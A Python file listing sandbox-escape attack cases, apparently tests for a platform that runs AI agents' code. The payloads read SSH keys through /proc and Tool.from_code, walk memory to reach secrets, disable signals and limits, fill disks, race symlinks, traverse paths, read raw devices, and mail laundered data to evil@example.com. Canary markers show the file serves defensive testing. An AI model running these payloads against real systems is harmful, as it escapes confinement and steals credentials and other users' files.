"""Attacks thought of after the first table: around limits, names, channels and what is left behind."""

from __future__ import annotations

from attacks.table import Attack

ATTACKS = [
    Attack(
        "from_code",
        "another agent hands out real tools, and Tool.from_code runs what it is given",
        r"""
        source = '''
        from smolagents import Tool
        class X(Tool):
            name = 'x'; description = open('$HOME/.ssh/id_rsa').read(); inputs = {}; output_type = 'string'
            def forward(self): return ''
        '''
        OUT = helper.tools["final_answer"].from_code(__import__('textwrap').dedent(source)).description
        """,
        "leak:CANARY-SSH",
    ),
    Attack(
        "tool_globals",
        "walk from a tool over globals, closures, self and gc's referrers to the platform's secrets",
        """
        import gc
        OUT, todo, done = '', [web_search, helper, final_answer], set()
        for depth in range(4):
            following = []
            for thing in todo:
                if id(thing) in done: continue
                done.add(id(thing))
                for name in ('__globals__', '__closure__', '__self__', '__dict__', '__wrapped__', 'forward', 'run'):
                    following.append(getattr(thing, name, None))
                following += gc.get_referents(thing)
            todo = following
            for thing in todo:
                if isinstance(thing, str) and 'CANARY-' in thing: OUT += thing
        """,
        "leak:CANARY-",
    ),
    Attack(
        "alarm_ignored",
        "switch off every signal that could end a step, then loop",
        """
        import signal
        for number in range(1, 65):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True: pass
        """,
        "hang",
    ),
    Attack(
        "stop_oneself",
        "SIGSTOP oneself in the middle of a step",
        "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
        "hang",
    ),
    Attack(
        "late_timer",
        "a timer's signal that runs code after the step",
        """
        import signal
        def later(*_): open('late.txt', 'a').write('x')
        signal.signal(signal.SIGALRM, later)
        signal.signal(signal.SIGVTALRM, later)
        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
        """,
        "late",
    ),
    Attack(
        "limits_raised",
        "raise one's own memory limit, then allocate",
        """
        import resource, time
        for limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA):
            try: resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            except (OSError, ValueError): pass
        L = []
        for i in range(120): L.append(bytearray(10 << 20))
        time.sleep(0.3)
        """,
        "memory",
    ),
    Attack(
        "shared_memory",
        "leave a file in /dev/shm for the next run",
        """
        import os
        name = '/dev/shm/left-behind-$PORT'
        open(name, 'w').write('x')
        OUT = open(name).read() + '-LEFT'
        os.unlink(name)
        """,
        "leak:x-LEFT",
    ),
    Attack(
        "tmp_left",
        "leave a file in the machine's /tmp for others to find",
        "open('$RUNS/../left', 'w').write('x')",
        "file:$HOME/../left",
    ),
    Attack(
        "setuid_file",
        "make a file that whoever runs it runs as its owner",
        "import os; os.close(os.open('s', os.O_CREAT | os.O_WRONLY, 0o6755))",
        "runs_as_owner",
    ),
    Attack(
        "disk_deep",
        "fill the disk below folders whose path is too long to be looked into",
        """
        import os
        for i in range(20):
            os.mkdir('d' * 250); os.chdir('d' * 250)
        for i in range(40):
            with open('f%d' % i, 'wb') as f: f.write(b'x' * (5 << 20))
        """,
        "disk",
    ),
    Attack(
        "disk_closed",
        "fill the disk in a folder that even its owner cannot list",
        """
        import os
        os.mkdir('closed', 0o300)
        for i in range(40):
            with open('closed/f%d' % i, 'wb') as f: f.write(b'x' * (5 << 20))
        """,
        "disk",
    ),
    Attack(
        "escape_error",
        "escapes for the terminal in an exception",
        r"raise ValueError('\x1b]0;pwned\x07 \x9b2J \u202e')",
        "escape",
    ),
    Attack(
        "escape_name",
        "escapes for the terminal in the name of an exception's class",
        r"raise type('\x1b[2J', (Exception,), {})('x')",
        "escape",
    ),
    Attack(
        "huge_error",
        "an exception of 300 MB",
        "raise ValueError('x' * (300 << 20))",
        "flood",
    ),
    Attack(
        "endless_error",
        "an exception whose text never ends",
        """
        class E(Exception):
            def __str__(self):
                while True: pass
        raise E()
        """,
        "hang",
    ),
    Attack("exit", "end the process", "import os; os._exit(0)", "crash"),
    Attack("abort", "abort the process", "import os; os.abort()", "crash"),
    Attack(
        "stack_of_calls",
        "free what is still used, in native code",
        "import ctypes; ctypes.memset(id(None), 65, 4096)",
        "crash",
    ),
    Attack(
        "lookalike_names",
        "tools by names that only look alike: full-width, Cyrillic, zero-width, composed",
        """
        OUT = ''
        for name in ('\\uff53end_mail', 's\\u0435nd_mail', 'send_mail\\u200b', 'send_mail ', 'SEND_MAIL'):
            try: OUT += str(eval(name)('evil@example.com', str(web_search('x'))))
            except Exception as e: OUT += 'refused '
        """,
        "mail",
    ),
    Attack(
        "taint_laundered",
        "mail out what was read, turned around and in another step's variable",
        """
        words = ''.join(chr(ord(letter) ^ 1) for letter in str(web_search('x'))[::-1])
        kept = {'a': [words]}
        del words
        OUT = send_mail('evil@example.com', kept['a'][0])
        """,
        "mail",
    ),
    Attack(
        "numbers",
        "numbers that are none: True, infinity, not-a-number, too large, and text with the right digits",
        """
        OUT = ''
        for width in (True, float('inf'), float('nan'), 1e3, '８', None, [8], {'width': 8}):
            try: make_image(width, 8); OUT += 'ACCEPTED %r ' % (width,)
            except BaseException as e: OUT += 'refused '
        """,
        "leak:ACCEPTED",
    ),
    Attack(
        "path_lookalikes",
        "another run's file under names that a careless check lets through",
        """
        OUT = ''
        for name in ('./../other/secret.txt', 'x/../../other/secret.txt', '\\uff0e\\uff0e/other/secret.txt',
                     '../other/secret.txt\\0.png', '/workspace/../other/secret.txt', '$RUNS/other/secret.txt',
                     '/proc/self/cwd/../other/secret.txt', '//workspace/../other/secret.txt', 'file://$RUNS/other/secret.txt'):
            try: OUT += str(image_info(name))
            except Exception as e: pass
        """,
        "leak:CANARY-OTHER",
    ),
    Attack(
        "race_link",
        "swap a good file for a link while a tool reads it",
        """
        import os
        OUT = ''
        open('good', 'w').write('fine')
        for i in range(400):
            try: os.symlink('$RUNS/other/secret.txt', 'r')
            except OSError: os.rename('good', 'r')
            try: OUT += str(image_info('r'))
            except Exception: pass
            if os.path.islink('r'): os.unlink('r')
            elif os.path.exists('r'): os.rename('r', 'good')
        """,
        "leak:CANARY-OTHER",
    ),
    Attack(
        "whose_agent",
        "another agent's own words as arguments: additional_args with what the platform would take for its own",
        "OUT = helper('x', additional_args={'y': 1}, max_steps=10**9)",
        "helper_kwargs",
    ),
    Attack(
        "raw_disk",
        "read the disk, the kernel's log and its memory as devices",
        """
        import os
        OUT = ''
        for name in ('kmsg', 'mem', 'vda', 'sda', 'nvme0n1', 'zero', 'random', '../proc/kcore'):
            try:
                fd = os.open('/dev/' + name, os.O_RDONLY | os.O_NONBLOCK)
                OUT += 'READ %s %d ' % (name, len(os.read(fd, 64)))
            except OSError: pass
        """,
        "leak:READ",
    ),
    Attack(
        "under_proc",
        "leave through /proc/self/root, /proc/self/cwd and the descriptors of others",
        """
        import os
        OUT = ''
        for name in ('/proc/self/root$HOME/.ssh/id_rsa', '/proc/self/cwd/../../home/.ssh/id_rsa',
                     '/proc/thread-self/root$HOME/.ssh/id_rsa', '/proc/$PARENT/root$HOME/.ssh/id_rsa',
                     '/proc/$PARENT/cwd/../../home/.ssh/id_rsa'):
            try: OUT += open(name).read()
            except OSError: pass
        """,
        "leak:CANARY-SSH",
    ),
    Attack(
        "signal_by_descriptor",
        "have the kernel signal the platform when a descriptor becomes readable: F_SETOWN, F_SETSIG, O_ASYNC",
        """
        import fcntl, os
        try: read, write = os.pipe()
        except OSError: read, write = 3, 0
        fcntl.fcntl(read, fcntl.F_SETOWN, $PARENT)
        fcntl.fcntl(read, 10, 10)
        fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | 0o20000)
        if write: os.write(write, b'x')
        else:
            call = b'{"op":"call","id":1,"name":"web_search","args":["x"],"kwargs":{}}'
            os.write(3, len(call).to_bytes(4, 'big') + call)
            for i in range(10**7): pass
        """,
        "signalled",
    ),
]
